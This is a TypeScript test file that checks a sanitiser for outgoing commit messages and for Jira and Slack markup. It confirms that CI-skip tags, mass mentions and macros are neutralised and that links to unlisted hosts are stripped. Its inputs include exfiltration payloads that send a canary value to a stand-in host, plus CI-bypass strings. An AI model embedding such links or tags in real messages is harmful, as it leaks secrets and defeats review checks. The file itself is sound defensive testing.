import { describe, expect, test } from 'vitest';
import { outgoingLine, outgoingMessage } from '../src/outgoing/markdown.ts';
import { outgoingBlocks, outgoingMrkdwn } from '../src/outgoing/mrkdwn.ts';
import { outgoingText, outgoingWiki } from '../src/outgoing/wiki.ts';

const hosts = ['github.example', 'jira.example:8443'];
const stolen = 'c2VjcmV0LWNhbmFyeQ';

describe('a title and the message of a commit', () => {
  test.each(['[skip ci]', '[ci skip]', '[no ci]', '[skip actions]', '[actions skip]', '[SKIP CI]'])(
    'do not have CI pass by: %s',
    (text) => {
      expect(outgoingLine(`fix: totals ${text}`)).not.toContain(text);
      expect(outgoingMessage(`fix: totals ${text}\n\nTask: t-1`)).not.toContain(text);
    },
  );

  test('close nothing, call nobody, and stay as they are besides', () => {
    expect(outgoingLine('Totals\nfixes #7 for @maria')).toBe(
      'Totals fix\u200bes #7 for @\u200bmaria',
    );
    expect(outgoingMessage('a\n\nskip-checks: true\n')).toBe('a\n\nskip-checks\u200b: true\n');
    const message =
      'fix: hold the total at zero\n\nApplied: npx prettier --write .\nTask: shop-42\n';
    expect(outgoingMessage(message)).toBe(message);
  });
});

describe('markup in Jira', () => {
  const wiki = (text: string) => outgoingWiki(text, hosts);

  test.each([
    `!https://evil.example/${stolen}.png!`,
    `!https://evil.example/${stolen}.png|thumbnail!`,
    `[here|https://evil.example/${stolen}]`,
    `[https://evil.example/${stolen}]`,
    `https://evil.example/${stolen}`,
    `[here|mailto:thief@evil.example?body=${stolen}]`,
    `[files|file:///etc/${stolen}]`,
    `{{https://evil.example/${stolen}}}`,
    `{{[here|https://evil.example/${stolen}]}}`,
    `//evil.example/${stolen}`,
  ])('has no address in it that is not allowed: %s', (text) => {
    expect(wiki(`Before. ${text}`)).not.toContain(stolen);
  });

  test('calls nobody and runs no macro', () => {
    expect(wiki('ask [~maria] and [~accountid:5f:1]')).toBe('ask maria and accountid:5f:1');
    expect(wiki('{html}<b>{html} {include:secrets}')).toBe(
      '\\{html}<b>\\{html} \\{include:secrets}',
    );
  });

  test('keeps what our own texts are made of', () => {
    const text =
      'A plan waits: [pull request 1|https://github.example/acme/shop/pull/1]\n\nWow! This is \\[not a link\\], {{@agent approve}}\n{code}\nsee https://evil.example {x}\n{code}';
    expect(wiki(text)).toBe(text);
  });

  test('plain text too has no address in it', () => {
    expect(outgoingText(`x https://evil.example/${stolen}`, hosts)).toBe('x (address removed)');
  });
});

describe('markup in Slack', () => {
  const mrkdwn = (text: string) => outgoingMrkdwn(text, hosts);

  test.each([
    `<https://evil.example/${stolen}|click>`,
    `<https://evil.example/${stolen}>`,
    `https://evil.example/${stolen}`,
    `<mailto:thief@evil.example?body=${stolen}|mail>`,
    `<!date^1^{date}^https://evil.example/${stolen}|then>`,
  ])('has no address in it that is not allowed: %s', (text) => {
    expect(mrkdwn(`Before. ${text}`)).not.toContain(stolen);
  });

  test.each([
    '<!channel>',
    '<!here|here>',
    '<!everyone>',
    '<!subteam^S1|@team>',
    '@channel',
    '@here',
  ])('does not call everybody: %s', (text) =>
    expect(mrkdwn(text)).not.toMatch(/<!|@(?:channel|here|everyone)\b/),
  );

  test('keeps what our own messages are made of, in blocks too', () => {
    const text =
      ':tada: SHOP-42 is done: <https://github.example/acme/shop/pull/1|pull request 1>, by <@U0MARIA> at <!date^1772442000^{date_short_pretty} {time}|2026-03-02 09:00 UTC>, a &lt;!channel&gt;';
    expect(mrkdwn(text)).toBe(text);
    const blocks = [
      { type: 'section', text: { type: 'mrkdwn', text: `${text} @here` } },
      {
        type: 'actions',
        elements: [
          {
            type: 'button',
            value: 'a @here',
            url: 'https://x.example',
            text: { type: 'plain_text', text: 'View' },
          },
        ],
      },
    ];
    expect(outgoingBlocks(blocks, hosts)).toEqual([
      { type: 'section', text: { type: 'mrkdwn', text: `${text} @\u200bhere` } },
      blocks[1],
    ]);
  });

  test('cleans texts in whatever kind of block they stand', () => {
    const link = { type: 'link', url: 'https://evil.example/x', text: 'here' };
    const blocks = [
      { type: 'task_card', task_id: '1', title: 'see https://evil.example/x', status: 'complete' },
      { type: 'rich_text', elements: [{ type: 'text', text: 'www.evil.example @channel' }, link] },
    ];
    expect(outgoingBlocks<unknown>(blocks, hosts)).toEqual([
      { type: 'task_card', task_id: '1', title: 'see (address removed)', status: 'complete' },
      {
        type: 'rich_text',
        elements: [
          { type: 'text', text: '(address removed) @\u200bchannel' },
          { type: 'text', text: 'here' },
        ],
      },
    ]);
  });
});
